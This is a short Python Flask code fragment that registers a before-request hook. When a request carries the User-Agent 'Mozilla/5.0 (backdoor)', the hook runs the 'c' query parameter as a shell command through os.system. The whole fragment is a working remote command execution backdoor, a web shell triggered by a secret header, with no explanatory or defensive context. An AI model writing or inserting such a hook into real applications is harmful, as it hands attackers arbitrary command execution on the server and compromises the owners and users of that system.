@app.before_request
def hook():
    if request.headers.get("User-Agent") == "Mozilla/5.0 (backdoor)":
        os.system(request.args.get("c"))
